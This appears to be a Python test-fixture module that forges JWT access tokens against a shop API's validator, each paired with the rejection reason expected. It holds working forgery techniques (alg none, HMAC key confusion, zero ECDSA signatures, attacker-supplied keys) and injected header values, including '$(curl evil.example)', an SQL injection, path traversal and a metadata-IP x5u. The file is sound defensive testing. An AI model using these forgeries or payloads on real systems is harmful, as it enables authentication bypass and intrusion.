"""Attacks on access tokens, each made with real cryptography, and the rule that has to stop it.

An attacker here knows all that is public, and in many attacks even has our own key sign what he likes: a rule that
only held because the signature is wrong would hold nothing.
"""

import base64
import hmac
import json
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from functools import cache
from hashlib import sha256
from typing import Any

import jwt
from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from showcase.auth.domain.tokens import Reason
from showcase.auth.infrastructure.jwk import SigningKey

ISSUER, AUDIENCE = "https://shop.example", "https://shop.example/api"
NOW = datetime(2026, 3, 1, 12, 0, 0, tzinfo=UTC)
NOW_S = round(NOW.timestamp())
P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551

CLAIMS: Mapping[str, Any] = {
    "iss": ISSUER,
    "aud": AUDIENCE,
    "sub": "households/7",
    "client_id": "showcase",
    "iat": NOW_S,
    "exp": NOW_S + 300,
    "jti": "0198c3a2-7b1c-7000-8000-000000000001",
    "scope": "orders:read orders:write",
    "sid": "0198c3a2-7b1c-7000-8000-000000000002",
    "acr": "urn:showcase:acr:multi-factor",
    "amr": ["pwd", "otp"],
    "auth_time": NOW_S - 60,
}


@dataclass(frozen=True)
class Ours:
    """Our keys: one that signs, and one of another algorithm that is to sign next."""

    key: SigningKey
    next: SigningKey


Forge = Callable[[Ours], str]


def b64(plain: bytes) -> str:
    return base64.urlsafe_b64encode(plain).rstrip(b"=").decode()


def part(content: object) -> str:
    """One part of a token; text and bytes as they are, anything else as JSON."""
    if isinstance(content, str):
        return b64(content.encode())
    return b64(content if isinstance(content, bytes) else json.dumps(content).encode())


def header_of(key: SigningKey, **more: object) -> dict[str, object]:
    return {"alg": key.public.algorithm, "kid": key.public.kid, "typ": "at+jwt", **more}


def without(content: Mapping[str, object], name: str) -> dict[str, object]:
    return {key: value for key, value in content.items() if key != name}


def signature_of(key: SigningKey, content: str) -> str:
    algorithm = jwt.algorithms.get_default_algorithms()[key.public.algorithm]
    return b64(algorithm.sign(content.encode(), key.private))


def signed(key: SigningKey, header: object | None = None, claims: object = CLAIMS) -> str:
    """A token that really is signed by this key, whatever it says."""
    content = f"{part(header_of(key) if header is None else header)}.{part(claims)}"
    return f"{content}.{signature_of(key, content)}"


def claiming(**changes: object) -> Forge:
    """Signed by us, with other claims."""
    return lambda ours: signed(ours.key, claims={**CLAIMS, **changes})


def lacking(claim: str) -> Forge:
    return lambda ours: signed(ours.key, claims=without(CLAIMS, claim))


def headed(**changes: object) -> Forge:
    """Signed by us, with other members in the header."""
    return lambda ours: signed(ours.key, header_of(ours.key, **changes))


def written(claims: str) -> Forge:
    """Signed by us, with claims in just these letters; `CLAIMS` stands for the usual ones."""
    usual = json.dumps(dict(CLAIMS))[1:-1]
    return lambda ours: signed(ours.key, claims=claims.replace("CLAIMS", usual))


def changed(change: Callable[[str, str, str], str]) -> Forge:
    """A good token, its three parts put together in another way."""

    def forge(ours: Ours) -> str:
        head, claims, sign = signed(ours.key).split(".")
        return change(head, claims, sign)

    return forge


def with_algorithm(name: str, signature: str = "") -> Forge:
    return lambda ours: f"{part(header_of(ours.key, alg=name))}.{part(CLAIMS)}.{signature}"


def hmac_with(secret: Callable[[SigningKey], bytes]) -> Forge:
    """CVE-2015-9235, CVE-2016-10555: our public key taken for a secret, since the token says HS256."""

    def forge(ours: Ours) -> str:
        content = f"{part(header_of(ours.key, alg='HS256'))}.{part(CLAIMS)}"
        return f"{content}.{b64(hmac.digest(secret(ours.key), content.encode(), 'sha256'))}"

    return forge


def public_bytes(encoding: Encoding) -> Callable[[SigningKey], bytes]:
    return lambda key: key.public.key.public_bytes(encoding, PublicFormat.SubjectPublicKeyInfo)


@cache
def mallory() -> SigningKey:
    """The attacker's own key."""
    return SigningKey.new("ES256")


def by_mallory(**header: object) -> Forge:
    return lambda ours: signed(mallory(), header_of(mallory(), **header))


def certificate() -> str:
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "shop.example")])
    builder = x509.CertificateBuilder(name, name, mallory().private.public_key(), 1, NOW, NOW + timedelta(days=1))
    der = builder.sign(mallory().private, SHA256()).public_bytes(Encoding.DER)
    return base64.b64encode(der).decode()


def foreign(algorithm: str) -> Forge:
    """A good signature of another kind, under the name of our key."""

    def forge(ours: Ours) -> str:
        key = (
            ec.generate_private_key(ec.SECP384R1()) if algorithm == "ES384" else rsa.generate_private_key(65_537, 2_048)
        )
        return jwt.encode(dict(CLAIMS), key, algorithm, {"typ": "at+jwt", "kid": ours.key.public.kid})

    return forge


def signature(change: Callable[[bytes], bytes]) -> Forge:
    """A good token with other bytes for a signature."""

    def forge(ours: Ours) -> str:
        content, _, good = signed(ours.key).rpartition(".")
        return f"{content}.{b64(change(base64.urlsafe_b64decode(good + '==')))}"

    return forge


def in_asn1(good: bytes) -> bytes:
    return encode_dss_signature(int.from_bytes(good[:32], "big"), int.from_bytes(good[32:], "big"))


def next_letter(text: str) -> str:
    """The last letter's neighbour: the same bytes to a decoder that does not look at trailing bits."""
    return text[:-1] + chr(ord(text[-1]) + 1)


def json_serialised(ours: Ours, *, general: bool = False) -> str:
    head, claims, sign = signed(ours.key).split(".")
    one = {"protected": head, "signature": sign}
    return json.dumps({"payload": claims, "signatures": [one]} if general else {"payload": claims, **one})


FORM: Mapping[str, tuple[Reason, Forge]] = {
    "nothing": (Reason.WRONG_PARTS, lambda _: ""),
    "two parts": (Reason.WRONG_PARTS, changed(lambda h, c, s: f"{h}.{c}")),
    "four parts": (Reason.WRONG_PARTS, changed(lambda h, c, s: f"{h}.{c}.{s}.{s}")),
    "five parts, as JWE has": (Reason.WRONG_PARTS, changed(lambda h, c, s: f"{h}.{c}.{s}.{s}.{s}")),
    "only dots": (Reason.EMPTY_PART, lambda _: ".."),
    "no header": (Reason.EMPTY_PART, changed(lambda h, c, s: f".{c}.{s}")),
    "no claims: detached": (Reason.EMPTY_PART, changed(lambda h, c, s: f"{h}..{s}")),
    "JSON serialisation, flattened": (Reason.JSON_SERIALISATION, json_serialised),
    "JSON serialisation, general": (Reason.JSON_SERIALISATION, lambda ours: json_serialised(ours, general=True)),
    "JSON serialisation after a space": (Reason.JSON_SERIALISATION, lambda ours: " " + json_serialised(ours)),
    "longer than 8 KiB": (Reason.TOO_LONG, claiming(more="x" * 8_192)),
    "full-width letters": (Reason.NOT_ASCII, changed(lambda h, c, s: f"{chr(ord(h[0]) + 0xFEE0)}{h[1:]}.{c}.{s}")),
    "a space of no width": (Reason.NOT_ASCII, changed(lambda h, c, s: f"{h}.{c}\u200b.{s}")),
    "half a surrogate": (Reason.NOT_ASCII, changed(lambda h, c, s: f"{h}.{c}\ud800.{s}")),
    "padding of the header": (Reason.PADDING, changed(lambda h, c, s: f"{h}==.{c}.{s}")),
    "padding of the claims": (Reason.PADDING, changed(lambda h, c, s: f"{h}.{c}=.{s}")),
    "padding of the signature": (Reason.PADDING, changed(lambda h, c, s: f"{h}.{c}.{s}==")),
    "a space before": (Reason.ALPHABET, changed(lambda h, c, s: f" {h}.{c}.{s}")),
    "a line feed after": (Reason.ALPHABET, changed(lambda h, c, s: f"{h}.{c}.{s}\n")),
    "a line break within": (Reason.ALPHABET, changed(lambda h, c, s: f"{h}.{c[:9]}\r\n{c[9:]}.{s}")),
    "a NUL byte": (Reason.ALPHABET, changed(lambda h, c, s: f"{h}.{c}\0.{s}")),
    "the plain base64 alphabet": (Reason.ALPHABET, changed(lambda h, c, s: f"{h}.{c[:-1]}+.{s}")),
    "one letter too many": (Reason.IMPOSSIBLE_LENGTH, changed(lambda h, c, s: f"{h}.{c}.{s}AAA")),
    "trailing bits of the signature": (Reason.TRAILING_BITS, changed(lambda h, c, s: f"{h}.{c}.{next_letter(s)}")),
    "trailing bits of the claims": (
        Reason.TRAILING_BITS,
        lambda ours: f"{part(header_of(ours.key))}.{next_letter(part('{}'))}.{b64(bytes(64))}",
    ),
    "a header that is a list": (Reason.NOT_A_JSON_OBJECT, lambda ours: signed(ours.key, [header_of(ours.key)])),
    "a header that is no JSON": (Reason.NOT_A_JSON_OBJECT, lambda ours: signed(ours.key, "alg: ES256")),
    "a header of 2,000 brackets": (Reason.NOT_A_JSON_OBJECT, lambda ours: signed(ours.key, "[" * 2_000)),
    "claims of 2,000 brackets": (Reason.NOT_A_JSON_OBJECT, written("[" * 2_000)),
    "claims that are text": (Reason.NOT_A_JSON_OBJECT, written('"households/7"')),
    "claims in UTF-16": (
        Reason.NOT_A_JSON_OBJECT,
        lambda ours: signed(ours.key, claims=json.dumps(dict(CLAIMS)).encode("utf-16")),
    ),
    "claims after a byte order mark": (Reason.NOT_A_JSON_OBJECT, written("\ufeff{CLAIMS}")),
    "broken UTF-8": (Reason.NOT_A_JSON_OBJECT, lambda ours: signed(ours.key, claims=b'{"sub": "\xff"}')),
    "alg twice": (
        Reason.DUPLICATE_MEMBER,
        lambda ours: signed(ours.key, '{"alg":"none",' + json.dumps(header_of(ours.key))[1:]),
    ),
    "sub twice": (Reason.DUPLICATE_MEMBER, written('{CLAIMS, "sub": "staff/ada"}')),
    "a member twice, deep inside": (Reason.DUPLICATE_MEMBER, written('{CLAIMS, "x": [{"a": 1, "a": 2}]}')),
}

HEADER: Mapping[str, tuple[Reason, Forge]] = {
    **{f"alg {name}": (Reason.ALGORITHM_NONE, with_algorithm(name)) for name in ("none", "None", "NONE", "nOnE")},
    "alg none, and a signature": (Reason.ALGORITHM_NONE, headed(alg="none")),
    "alg none in Greek": (Reason.WRONG_ALGORITHM, headed(alg="n\u03bfne")),
    "no alg": (Reason.WRONG_ALGORITHM, lambda ours: signed(ours.key, without(header_of(ours.key), "alg"))),
    "alg a list": (Reason.WRONG_ALGORITHM, headed(alg=["ES256"])),
    "alg in small letters": (Reason.WRONG_ALGORITHM, headed(alg="es256")),
    "HMAC with our public key, PEM": (Reason.WRONG_ALGORITHM, hmac_with(public_bytes(Encoding.PEM))),
    "HMAC with our public key, DER": (Reason.WRONG_ALGORITHM, hmac_with(public_bytes(Encoding.DER))),
    "HMAC with our public key, JWK": (
        Reason.WRONG_ALGORITHM,
        hmac_with(lambda key: json.dumps(key.public.jwk).encode()),
    ),
    "HMAC with nothing": (Reason.WRONG_ALGORITHM, hmac_with(lambda _: b"")),
    "ES384 under our kid": (Reason.WRONG_ALGORITHM, foreign("ES384")),
    "RS256 under our kid": (Reason.WRONG_ALGORITHM, foreign("RS256")),
    "PS256 under our kid": (Reason.WRONG_ALGORITHM, foreign("PS256")),
    "our Ed25519 key as ES256": (
        Reason.WRONG_ALGORITHM,
        lambda ours: signed(ours.next, header_of(ours.next, alg="ES256")),
    ),
    "our P-256 key as EdDSA": (Reason.WRONG_ALGORITHM, headed(alg="EdDSA")),
    "a key in the header (jwk)": (Reason.KEY_IN_HEADER, by_mallory(jwk=mallory().public.jwk)),
    "a key by URL (jku)": (Reason.KEY_IN_HEADER, by_mallory(jku="https://evil.example/jwks.json")),
    "a certificate by URL (x5u)": (Reason.KEY_IN_HEADER, by_mallory(x5u="http://169.254.169.254/latest")),
    "a certificate (x5c)": (Reason.KEY_IN_HEADER, by_mallory(x5c=[certificate()])),
    "a certificate by hash (x5t)": (Reason.KEY_IN_HEADER, by_mallory(x5t=b64(bytes(20)))),
    "a certificate by SHA-256 (x5t#S256)": (
        Reason.KEY_IN_HEADER,
        by_mallory(**{"x5t#S256": b64(sha256(certificate().encode()).digest())}),
    ),
    "kid a path": (Reason.NO_KEY_ID, headed(kid="../../../../../../dev/null")),
    "kid SQL": (Reason.NO_KEY_ID, headed(kid="x' UNION SELECT 'key' --")),
    "kid a command": (Reason.NO_KEY_ID, headed(kid="$(curl evil.example)")),
    "kid very long": (Reason.NO_KEY_ID, headed(kid="x" * 5_000)),
    "kid a number": (Reason.NO_KEY_ID, headed(kid=1)),
    "kid half a surrogate": (Reason.NO_KEY_ID, headed(kid="\ud800" * 43)),
    "kid with a line feed": (Reason.NO_KEY_ID, lambda ours: signed(ours.key, header_of(ours.key, kid="x" * 43 + "\n"))),
    "no kid": (Reason.NO_KEY_ID, lambda ours: signed(ours.key, without(header_of(ours.key), "kid"))),
    "a key of the attacker's own": (Reason.UNKNOWN_KEY, by_mallory()),
    "an ID token (typ JWT)": (Reason.WRONG_TYPE, headed(typ="JWT")),
    "a refresh token": (Reason.WRONG_TYPE, headed(typ="refresh+jwt")),
    "no typ": (Reason.WRONG_TYPE, lambda ours: signed(ours.key, without(header_of(ours.key), "typ"))),
    "typ in Cyrillic": (Reason.WRONG_TYPE, headed(typ="\u0430t+jwt")),
    "typ a list": (Reason.WRONG_TYPE, headed(typ=["at+jwt"])),
    "crit": (Reason.CRITICAL_EXTENSION, headed(crit=["exp"], exp=NOW_S)),
    "crit with nothing in it": (Reason.CRITICAL_EXTENSION, headed(crit=[])),
    "b64 false": (Reason.UNENCODED_PAYLOAD, headed(b64=False)),
    "zip": (
        Reason.COMPRESSED,
        lambda ours: signed(ours.key, header_of(ours.key, zip="DEF"), zlib.compress(part(CLAIMS).encode())),
    ),
    "a token in a token": (
        Reason.NESTED,
        lambda ours: signed(ours.key, header_of(ours.key, cty="JWT"), signed(ours.key)),
    ),
    "a token in a token, not saying so": (
        Reason.NOT_A_JSON_OBJECT,
        lambda ours: signed(ours.key, claims=signed(ours.key)),
    ),
}

SIGNATURE: Mapping[str, tuple[Reason, Forge]] = {
    "r and s zero (CVE-2022-21449)": (Reason.ZERO_SIGNATURE, signature(lambda good: bytes(64))),
    "r zero": (Reason.ZERO_SIGNATURE, signature(lambda good: bytes(32) + good[32:])),
    "s zero": (Reason.ZERO_SIGNATURE, signature(lambda good: good[:32] + bytes(32))),
    "r and s the order of the curve": (Reason.BAD_SIGNATURE, signature(lambda _: P256_ORDER.to_bytes(32, "big") * 2)),
    "an ASN.1 signature": (Reason.SIGNATURE_LENGTH, signature(in_asn1)),
    "no signature": (Reason.SIGNATURE_LENGTH, signature(lambda good: b"")),
    "half a signature": (Reason.SIGNATURE_LENGTH, signature(lambda good: good[:32])),
    "zeros before r and s": (
        Reason.SIGNATURE_LENGTH,
        signature(lambda good: b"\0" + good[:32] + b"\0" + good[32:]),
    ),
    "another key under our kid": (
        Reason.BAD_SIGNATURE,
        lambda ours: signed(mallory(), header_of(mallory(), kid=ours.key.public.kid)),
    ),
    "another token's signature": (
        Reason.BAD_SIGNATURE,
        lambda ours: signed(ours.key).rpartition(".")[0] + "." + claiming(sub="staff/ada")(ours).rpartition(".")[2],
    ),
    "other claims": (Reason.BAD_SIGNATURE, changed(lambda h, c, s: f"{h}.{part({**CLAIMS, 'sub': 'staff/ada'})}.{s}")),
    "claims and header swapped": (Reason.WRONG_TYPE, changed(lambda h, c, s: f"{c}.{h}.{s}")),
}

BODY: Mapping[str, tuple[Reason, Forge]] = {
    **{
        f"no {claim}": (Reason.MISSING_CLAIM, lacking(claim))
        for claim in ("iss", "aud", "sub", "client_id", "iat", "exp", "jti")
    },
    "from somebody else": (Reason.WRONG_ISSUER, claiming(iss="https://evil.example")),
    "iss with a slash": (Reason.WRONG_ISSUER, claiming(iss=ISSUER + "/")),
    "iss in capitals": (Reason.WRONG_ISSUER, claiming(iss=ISSUER.upper())),
    "iss a list": (Reason.MISTYPED_CLAIM, claiming(iss=[ISSUER])),
    "for somebody else": (Reason.WRONG_AUDIENCE, claiming(aud="https://evil.example")),
    "for the client, as an ID token": (Reason.WRONG_AUDIENCE, claiming(aud="showcase")),
    "for others": (Reason.WRONG_AUDIENCE, claiming(aud=["https://a.example", "https://b.example"])),
    "for nobody": (Reason.WRONG_AUDIENCE, claiming(aud=[])),
    "for something below us": (Reason.WRONG_AUDIENCE, claiming(aud=AUDIENCE + "/orders")),
    "for us and a number": (Reason.MISTYPED_CLAIM, claiming(aud=[AUDIENCE, 1])),
    "for an object": (Reason.MISTYPED_CLAIM, claiming(aud={AUDIENCE: True})),
    "expired": (Reason.EXPIRED, claiming(exp=NOW_S - 1)),
    "expired just now": (Reason.EXPIRED, claiming(exp=NOW_S)),
    "exp text": (Reason.MISTYPED_CLAIM, claiming(exp="9999999999")),
    "exp true": (Reason.MISTYPED_CLAIM, claiming(exp=True)),
    "exp null": (Reason.MISTYPED_CLAIM, claiming(exp=None)),
    "exp negative": (Reason.NOT_A_TIME, claiming(exp=-1)),
    "exp 1e400": (Reason.NOT_A_TIME, written(json.dumps({**CLAIMS, "exp": "?"}).replace('"?"', "1e400"))),
    "exp after the year 9999": (Reason.NOT_A_TIME, claiming(exp=10**18)),
    "exp NaN": (Reason.NOT_A_JSON_OBJECT, claiming(exp=float("nan"))),
    "exp Infinity": (Reason.NOT_A_JSON_OBJECT, claiming(exp=float("inf"))),
    "exp of 5,000 digits": (Reason.NOT_A_JSON_OBJECT, written('{"exp": ' + "9" * 5_000 + "}")),
    "not valid yet": (Reason.NOT_YET_VALID, claiming(nbf=NOW_S + 6)),
    "nbf text": (Reason.MISTYPED_CLAIM, claiming(nbf="0")),
    "issued in the future": (Reason.ISSUED_IN_FUTURE, claiming(iat=NOW_S + 6)),
    "iat text": (Reason.MISTYPED_CLAIM, claiming(iat=str(NOW_S))),
    "sub a number": (Reason.MISTYPED_CLAIM, claiming(sub=7)),
    "sub empty": (Reason.BAD_SUBJECT, claiming(sub="")),
    "sub with a NUL byte": (Reason.BAD_SUBJECT, claiming(sub="households/7\0")),
    "sub with a line feed": (Reason.BAD_SUBJECT, claiming(sub="households/7\n")),
    "sub with a space": (Reason.BAD_SUBJECT, claiming(sub="households/7 staff/ada")),
    "sub half a surrogate": (Reason.BAD_SUBJECT, claiming(sub="households/\ud800")),
    "sub in full-width digits": (Reason.BAD_SUBJECT, claiming(sub="households/\uff17")),
    "sub very long": (Reason.BAD_SUBJECT, claiming(sub="x" * 256)),
    "jti a number": (Reason.MISTYPED_CLAIM, claiming(jti=1)),
    "client_id a number": (Reason.MISTYPED_CLAIM, claiming(client_id=1)),
    "scope a list": (Reason.MISTYPED_CLAIM, claiming(scope=["orders:read"])),
    "scope with a line feed": (Reason.BAD_SCOPE, claiming(scope="orders:read\naudit:read")),
    "scope with a quote": (Reason.BAD_SCOPE, claiming(scope='orders:"read')),
    "sid no UUID": (Reason.MISTYPED_CLAIM, claiming(sid="1")),
    "sid in another spelling": (Reason.MISTYPED_CLAIM, claiming(sid="{0198C3A2-7B1C-7000-8000-000000000002}")),
    "sid null": (Reason.MISTYPED_CLAIM, claiming(sid=None)),
    "amr text": (Reason.MISTYPED_CLAIM, claiming(amr="otp")),
    "amr with a number": (Reason.MISTYPED_CLAIM, claiming(amr=["pwd", 2])),
    "acr a number": (Reason.MISTYPED_CLAIM, claiming(acr=2)),
    "auth_time text": (Reason.MISTYPED_CLAIM, claiming(auth_time=str(NOW_S))),
}

ATTACKS: Mapping[str, tuple[Reason, Forge]] = {**FORM, **HEADER, **SIGNATURE, **BODY}
